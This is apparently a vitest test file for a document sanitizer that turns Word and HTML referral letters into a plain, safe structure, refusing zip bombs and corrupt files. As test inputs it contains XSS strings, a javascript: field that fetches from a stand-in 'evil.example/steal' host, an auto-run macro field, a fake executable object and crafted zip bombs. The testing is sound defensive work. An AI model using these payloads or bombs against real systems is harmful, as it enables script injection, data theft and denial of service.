import { zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { AppError } from '../../../electron/app-error';
import { docxToSafeDocument, htmlToSafeDocument } from '../../../electron/convert/docx-to-safe-document';
import type { SafeBlock, SafeDocument } from '../../../contract';
import { inspectZip } from '../../../electron/convert/zip-guard';
import { makeDocx, w } from './docx-fixture';
import { setDeclaredSize } from './zip-bytes';

const NS_DRAWING =
  'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';

function picture(relId: string): string {
  return `<w:p><w:r><w:drawing><wp:inline ${NS_DRAWING}><wp:docPr id="1" name="Picture 1" descr="scan"/><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="${relId}"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
}

/** Every object in the tree has only the keys the SafeDocument types allow. */
const ALLOWED_KEYS = new Set([
  'blocks',
  'removed',
  'type',
  'level',
  'runs',
  'text',
  'bold',
  'italic',
  'ordered',
  'items',
  'rows',
  'cells',
  'header',
  'images',
  'links',
  'objects',
  'truncated',
]);
function allKeys(value: unknown, into = new Set<string>()): Set<string> {
  if (Array.isArray(value)) for (const item of value) allKeys(item, into);
  else if (value !== null && typeof value === 'object') {
    for (const [key, inner] of Object.entries(value)) {
      into.add(key);
      allKeys(inner, into);
    }
  }
  return into;
}

function allText(blocks: SafeBlock[]): string {
  return JSON.stringify(
    blocks.flatMap(function texts(block): string[] {
      switch (block.type) {
        case 'heading':
        case 'paragraph':
          return block.runs.map((run) => run.text);
        case 'list':
          return block.items.flatMap((item) => item.blocks.flatMap(texts));
        case 'table':
          return block.rows.flatMap((row) => row.cells.flatMap((cell) => cell.blocks.flatMap(texts)));
      }
    }),
  );
}

async function refusal(promise: Promise<unknown>): Promise<AppError> {
  const error = await promise.then(
    () => undefined,
    (caught: unknown) => caught,
  );
  expect(error).toBeInstanceOf(AppError);
  return error as AppError;
}

describe('docxToSafeDocument', () => {
  it('keeps headings, bold and italic runs and a table, as plain data', async () => {
    const docx = makeDocx(
      [
        w.heading(1, 'Referral to cardiology'),
        w.heading(2, 'Medication'),
        w.para(w.run('Seen with '), w.run('chest pain', { bold: true }), w.run(' on exertion', { italic: true })),
        w.table([
          ['Drug', 'Dose'],
          ['Ramipril', '5 mg'],
        ]),
      ].join(''),
    );
    const doc = await docxToSafeDocument(docx);
    expect(doc.blocks[0]).toEqual({ type: 'heading', level: 1, runs: [{ text: 'Referral to cardiology', bold: false, italic: false }] });
    expect(doc.blocks[1]).toMatchObject({ type: 'heading', level: 2 });
    expect(doc.blocks[2]).toEqual({
      type: 'paragraph',
      runs: [
        { text: 'Seen with ', bold: false, italic: false },
        { text: 'chest pain', bold: true, italic: false },
        { text: ' on exertion', bold: false, italic: true },
      ],
    });
    const table = doc.blocks[3];
    expect(table?.type).toBe('table');
    if (table?.type !== 'table') throw new Error('no table');
    expect(table.rows).toHaveLength(2);
    expect(table.rows[1]?.cells.map((cell) => allText(cell.blocks))).toEqual(['["Ramipril"]', '["5 mg"]']);
    expect(doc.removed).toEqual({ images: 0, links: 0, objects: 0, truncated: false });
  });

  it('keeps a hyperlink as its text only and lets no script-ish field or URL through', async () => {
    const docx = makeDocx(
      [
        w.para(w.run('See '), w.hyperlink('rIdLink', 'the results portal')),
        w.para(w.field('HYPERLINK "javascript:fetch(\'https://evil.example/steal\')"', 'Open record')),
        w.para(w.field('MACROBUTTON AutoOpen RunMacro', 'Double-click here')),
        w.para(w.run('<script>window.pwned = 1</script><img src=x onerror=alert(1)>')),
      ].join(''),
      { relationships: [{ id: 'rIdLink', type: 'hyperlink', target: 'https://evil.example/portal', external: true }] },
    );
    const doc = await docxToSafeDocument(docx);
    const json = JSON.stringify(doc);
    expect(json).toContain('the results portal');
    expect(json).toContain('Open record');
    expect(json).not.toMatch(/javascript:|https?:|evil\.example|MACROBUTTON|RunMacro|href|onerror=alert\(1\)>.*src/i);
    expect(doc.removed.links).toBe(2);
    // Script-looking text is kept as text: the viewer shows it through Vue interpolation.
    expect(allText(doc.blocks)).toContain('<script>window.pwned = 1</script>');
    expect([...allKeys(doc)].filter((key) => !ALLOWED_KEYS.has(key))).toEqual([]);
  });

  it('shows pictures as "[image]" without reading them, and drops embedded objects', async () => {
    // The picture bytes are not even a PNG: if anything decoded them, it would fail.
    const docx = makeDocx(
      [
        w.para(w.run('Wound photograph:')),
        picture('rIdImg'),
        `<w:p><w:r><w:object><v:shape id="ole1"/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="ole1" r:id="rIdOle"/></w:object></w:r></w:p>`,
        w.para(w.run('End of letter.')),
      ].join(''),
      {
        relationships: [
          { id: 'rIdImg', type: 'image', target: 'media/image1.png' },
          { id: 'rIdOle', type: 'oleObject', target: 'embeddings/oleObject1.bin' },
        ],
        extraParts: {
          'word/media/image1.png': new Uint8Array([1, 2, 3, 4]),
          'word/embeddings/oleObject1.bin': new TextEncoder().encode('MZ pretend executable'),
        },
      },
    );
    const doc = await docxToSafeDocument(docx);
    expect(allText(doc.blocks)).toContain('[image]');
    expect(allText(doc.blocks)).toContain('End of letter.');
    expect(JSON.stringify(doc)).not.toContain('MZ pretend');
    expect(doc.removed.images).toBe(1);
    expect(doc.removed.objects).toBe(1);
  });

  it('refuses a small file that claims to expand to gigabytes, before inflating anything', async () => {
    // The entry's "compressed data" is garbage: had anything tried to inflate it, the
    // refusal would be DOCUMENT_CORRUPT, not the zip-bomb refusal from the listing.
    const honest = zipSync({
      'word/document.xml': [new Uint8Array(2000).fill(0x41), { level: 0 }],
      '[Content_Types].xml': new Uint8Array(10),
    });
    const bombed = setDeclaredSize(honest, 'word/document.xml', { original: 0xfffffff0 });
    expect(bombed.byteLength).toBeLessThan(3000);
    const started = performance.now();
    const error = await refusal(docxToSafeDocument(bombed));
    expect(error.code).toBe('DOCUMENT_UNSAFE');
    expect(error.message).toMatch(/^This document was not opened because it claims to expand to more than 256 MB.*Ask the referrer/);
    expect(performance.now() - started).toBeLessThan(500);
  });

  it('refuses an entry that declares an extreme compression ratio', async () => {
    const zeros = new Uint8Array(40 * 1024 * 1024);
    const docx = zipSync({ '[Content_Types].xml': new Uint8Array(10), 'word/document.xml': [zeros, { level: 1 }] });
    expect(() => inspectZip(docx)).toThrowError(/expand \d+ times over/);
  });

  it('refuses an archive with too many entries', () => {
    const files: Record<string, Uint8Array> = {};
    for (let index = 0; index < 5_001; index += 1) files[`word/part${index}.xml`] = new Uint8Array(1);
    const error = (() => {
      try {
        inspectZip(zipSync(files));
        return undefined;
      } catch (caught) {
        return caught;
      }
    })();
    expect(error).toBeInstanceOf(AppError);
    expect((error as AppError).code).toBe('DOCUMENT_UNSAFE');
    expect((error as AppError).message).toContain('more than 5000 files');
  });

  it('stops inflating an entry that yields more than it declared (a lying zip bomb)', async () => {
    // 128 MB of zeros that claim to be 10 KB: the listing looks harmless.
    const zeros = new Uint8Array(128 * 1024 * 1024);
    const withBomb = zipSync({ '[Content_Types].xml': new Uint8Array(10), 'word/document.xml': [zeros, { level: 1 }] });
    const lying = setDeclaredSize(withBomb, 'word/document.xml', { original: 10_000 });
    const heapBefore = process.memoryUsage().arrayBuffers;
    const error = await refusal(docxToSafeDocument(lying));
    expect(error.code).toBe('DOCUMENT_UNSAFE');
    expect(error.message).toContain('expands to more than its header declares');
    // Nothing like 128 MB was held: the inflater stopped within a few small chunks.
    expect(process.memoryUsage().arrayBuffers - heapBefore).toBeLessThan(48 * 1024 * 1024);
  });

  it('says a damaged or foreign file could not be opened, without crashing', async () => {
    const notZip = new TextEncoder().encode('%PDF-1.7 not a zip at all');
    expect((await refusal(docxToSafeDocument(notZip))).code).toBe('DOCUMENT_CORRUPT');
    const truncated = makeDocx(w.para(w.run('hello'))).subarray(0, 200);
    expect((await refusal(docxToSafeDocument(truncated))).code).toBe('DOCUMENT_CORRUPT');
    const otherZip = zipSync({ 'readme.txt': new TextEncoder().encode('hello') });
    const error = await refusal(docxToSafeDocument(otherZip));
    expect(error.code).toBe('DOCUMENT_CORRUPT');
    expect(error.message).toBe(
      'This document could not be opened because the file is damaged or is not a Word document. Ask the referrer to send it again.',
    );
    const brokenXml = makeDocx('<w:p><w:r><w:t>unclosed');
    expect((await refusal(docxToSafeDocument(brokenXml))).code).toBe('DOCUMENT_CORRUPT');
  });
});

describe('htmlToSafeDocument (the whitelist)', () => {
  it('drops everything active and keeps only the allowed shape', () => {
    const doc: SafeDocument = htmlToSafeDocument(
      '<h2 onclick="x()">Plan</h2><p style="color:red">A <a href="javascript:alert(1)">link</a><img src="http://x/y.png" onerror="alert(1)"></p>' +
        '<script>alert(1)</script><iframe src="https://evil.example"></iframe><style>p{}</style>' +
        '<ol><li>one</li><li>two<ul><li>nested</li></ul></li></ol><table><thead><tr><th>H</th></tr></thead><tbody><tr><td>C</td></tr></tbody></table>',
    );
    expect([...allKeys(doc)].filter((key) => !ALLOWED_KEYS.has(key))).toEqual([]);
    const json = JSON.stringify(doc);
    expect(json).not.toMatch(/alert|javascript|evil|onerror|onclick|color:red|http/);
    expect(doc.removed).toEqual({ images: 1, links: 1, objects: 2, truncated: false });
    expect(doc.blocks.map((block) => block.type)).toEqual(['heading', 'paragraph', 'list', 'table']);
    const list = doc.blocks[2];
    if (list?.type !== 'list') throw new Error('no list');
    expect(list.ordered).toBe(true);
    expect(list.items[1]?.blocks[1]).toMatchObject({ type: 'list', ordered: false });
    const table = doc.blocks[3];
    if (table?.type !== 'table') throw new Error('no table');
    expect(table.rows[0]?.cells[0]?.header).toBe(true);
  });

  it('flattens absurd nesting instead of recursing without end', () => {
    const depth = 5_000;
    const html = '<ul><li>'.repeat(depth) + 'deep' + '</li></ul>'.repeat(depth);
    const doc = htmlToSafeDocument(html);
    expect(allText(doc.blocks)).toContain('deep');
    let nesting = 0;
    let block: SafeBlock | undefined = doc.blocks[0];
    while (block?.type === 'list') {
      nesting += 1;
      block = block.items[0]?.blocks[0];
    }
    expect(nesting).toBeLessThanOrEqual(7);
  });
});
